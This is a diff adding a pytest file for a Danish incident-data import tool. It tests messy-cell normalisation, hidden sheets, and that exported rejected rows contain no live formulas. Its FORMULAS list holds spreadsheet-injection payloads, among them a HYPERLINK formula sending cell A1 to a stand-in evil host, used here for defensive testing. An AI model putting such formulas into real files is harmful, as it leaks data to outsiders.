@@ -1,0 +1,176 @@
+"""Files as offices and spreadsheets have made them: what was meant is read, and what could not be is said."""
+
+from __future__ import annotations
+
+import csv
+import io
+import unicodedata
+
+import pytest
+import xlsxwriter
+
+from brobygger.intake import rejecting
+from brobygger.intake.models import RejectedRow
+from brobygger.intake.reading import FileUnreadable, understand
+from brobygger.intake.shapes import shape
+from brobygger.intake.tests import files
+from brobygger.people.models import Person, PhoneNumber
+
+COLUMNS = shape("incident_export").columns
+
+
+def notes(summary):
+    return {note["code"]: note["rows"] for note in summary.counts()["notes"]}
+
+
+@pytest.mark.parametrize(
+    ("column", "written", "held"),
+    [
+        ("role", "Forurettet\u200b", None),
+        ("role", "\ufeffVidne", None),
+        ("role", unicodedata.normalize("NFD", "Pårørende"), None),
+        ("protected", "ja\u200b", ("protected", True)),
+        ("gender", "kvinde\u200e", ("gender", "female")),
+        ("offence_code", "76111\u200b", None),
+        ("given_name", unicodedata.normalize("NFD", "Åse"), ("given_name", "Åse")),
+        ("given_name", "\u200fسارة", ("given_name", "سارة")),
+        ("email", "navn@eksempel.dk;", ("email", "navn@eksempel.dk")),
+        ("email", "<navn@eksempel.dk>", ("email", "navn@eksempel.dk")),
+        ("postal_code", "DK-5000", ("postal_code", "5000")),
+        ("postal_code", "5000 Odense C", ("postal_code", "5000")),
+        ("language", "en-GB", ("language", "en")),
+        ("language", "Engelsk/dansk", ("language", "en")),
+        ("cpr", "630480-1234", ("birth_date", "1980-04-03")),
+    ],
+)
+def test_what_was_meant_is_read(bring, tmp_path, column, written, held):
+    summary = bring({column: written, "birth_date": ""})
+    assert (summary.registrations, notes(summary)) == (1, {})
+    if held:
+        assert str(getattr(Person.objects.get(), held[0])) == str(held[1])
+
+
+@pytest.mark.parametrize(
+    ("column", "written"), [("email", "ingen"), ("gender", "ukendt"), ("gender", "X"), ("postal_code", "?")]
+)
+def test_nothing_said_in_words_is_noted_and_she_is_in(bring, column, written):
+    summary = bring({column: written})
+    assert (summary.people, notes(summary)) == (1, {"nothing_was_written": [2]})
+    assert getattr(Person.objects.get(), column) == ""
+
+
+@pytest.mark.parametrize(("column", "written"), [("postal_code", "50000"), ("protected", "ukendt"), ("language", "1")])
+def test_what_nobody_can_tell_is_still_rejected(bring, column, written):
+    assert bring({column: written}).rejected == 1
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        *("\u202a+45 95 00 11 01\u202c", "95\u202f00\u202f11\u202f01", "95\u201100\u201111\u201101", "95–00–11–01"),
+        *(
+            "95001101 (mor)",
+            "+45 (0)95001101",
+            "tel:+4595001101",
+            "\u200b95001101",
+            "4595001101,00",
+            "９５００１１０１",
+        ),
+    ],
+)
+def test_a_phone_number_however_it_is_written(bring, written):
+    bring({"phone": written})
+    assert PhoneNumber.objects.get().number == "+4595001101"
+
+
+def test_several_numbers_and_one_that_is_none(bring):
+    summary = bring({"phone": "95001106; 95001206"}, {"report_number": "2", "phone": "950 001110", "given_name": "Bo"})
+    assert set(PhoneNumber.objects.values_list("number", flat=True)) == {"+4595001106", "+4595001206"}
+    assert notes(summary) == {"phone_not_readable": [3]}
+
+
+def test_what_a_spreadsheet_does_to_a_text_file_is_put_right_and_told(bring):
+    summary = bring(
+        {"cpr": "102851236", "birth_date": ""},
+        {"report_number": "2", "postal_code": "800"},
+        {"report_number": "3", "phone": "4595006601,00"},
+    )
+    assert (summary.registrations, notes(summary)) == (
+        3,
+        {"leading_zero_put_back": [2, 3], "number_was_an_amount": [4]},
+    )
+
+
+FORMULAS = ('=HYPERLINK("https://ond.invalid/?"&A1;"Klik")', "@SUM(1)", "-2+3", "+4595006601", "\tcmd")
+
+
+@pytest.mark.parametrize("way", ["beside", "page"])
+def test_a_rejected_row_opens_without_a_live_formula_and_comes_in_with_its_words(bring, client, cast, tmp_path, way):
+    rows = [{"report_number": str(n), "family_name": words, "offence_code": "x"} for n, words in enumerate(FORMULAS)]
+    path = files.file(tmp_path, rows)
+    summary = bring(path=path)
+    if way == "page":
+        client.force_login(cast.leader)
+        text = client.get(f"/import/{RejectedRow.objects.first().run_id}/rejected/").content.decode("utf-8-sig")
+    else:
+        file, target, by = understand(path, shape("incident_export")), tmp_path / "out.csv", cast.actor("leader")
+        rejecting.write_beside(target, summary.run_id, file, by=by, name="a.csv", shown=[], most=9)
+        text = target.read_text("utf-8-sig")
+    cells = [cell for row in list(csv.reader(io.StringIO(text), delimiter=";"))[1:] for cell in row]
+    assert not [cell for cell in cells if cell[:1] in "=+-@\t" and cell]
+    path.write_text(text.replace(";x;", f";{files.VIOLENCE};"), "utf-8-sig")
+    assert bring(path=path).registrations == len(FORMULAS)
+    assert set(Person.objects.values_list("family_name", flat=True)) == {words.strip() for words in FORMULAS}
+
+
+def sheets(tmp_path, **told):
+    """A workbook: for each sheet whether it is hidden, lines above its header, and its rows."""
+    book = xlsxwriter.Workbook(str(tmp_path / "a.xlsx"))
+    first = None
+    for name, (hidden, above, rows) in told.items():
+        sheet = book.add_worksheet(name)
+        for place, line in enumerate([*above, [column.title for column in COLUMNS], *map(_as_cells, rows)]):
+            for left, value in enumerate(line):
+                if value == "#N/A":
+                    sheet.write_formula(place, left, "=NA()", None, "#N/A")
+                else:
+                    sheet.write(place, left, value)
+        if hidden:
+            sheet.hide()
+        elif first is None:
+            first = sheet
+            sheet.activate()
+            sheet.set_first_sheet()
+    book.close()
+    return tmp_path / "a.xlsx"
+
+
+def _as_cells(row):
+    return [{**files.DEFAULTS, **row}.get(column.name, "") for column in COLUMNS]
+
+
+def test_lines_above_the_header_are_passed_over(bring, tmp_path):
+    above = [["Udtræk"], [], ["Dato", "26-11-2026"]]
+    summary = bring(path=sheets(tmp_path, Ark1=(False, above, [{}, {"offence_code": "x", "person_ref": "2"}])))
+    assert (summary.registrations, RejectedRow.objects.get().row) == (1, 6)
+    path = tmp_path / "a.csv"
+    path.write_text("Udtræk fra sagssystemet\n\nDato;26-11-2026\n" + files.text([{"report_number": "2"}]), "utf-8-sig")
+    assert bring(path=path).registrations == 1
+
+
+def test_a_hidden_sheet_is_not_read(bring, tmp_path):
+    told = {"Gammel": (True, [], [{"given_name": "Skjult"}]), "Ny": (False, [], [{"given_name": "Synlig"}])}
+    bring(path=sheets(tmp_path, **told))
+    assert Person.objects.get().given_name == "Synlig"
+
+
+def test_several_sheets_with_rows_are_not_chosen_between(bring, tmp_path):
+    with pytest.raises(FileUnreadable, match="several_sheets"):
+        bring(path=sheets(tmp_path, Ark1=(False, [], [{}]), Ark2=(False, [], [{"person_ref": "2"}])))
+    assert bring(path=sheets(tmp_path, Ark1=(False, [], [{}]), Tom=(False, [], []))).registrations == 1
+
+
+def test_each_row_with_an_error_in_a_cell_is_told_of(bring, tmp_path):
+    rows = [{"family_name": "#N/A"}, {"person_ref": "2"}, {"person_ref": "3", "phone": "#N/A", "address": "#N/A"}]
+    summary = bring(path=sheets(tmp_path, Ark1=(False, [], rows)))
+    assert (summary.registrations, notes(summary)) == (3, {"cell_with_an_error": [2, 4]})
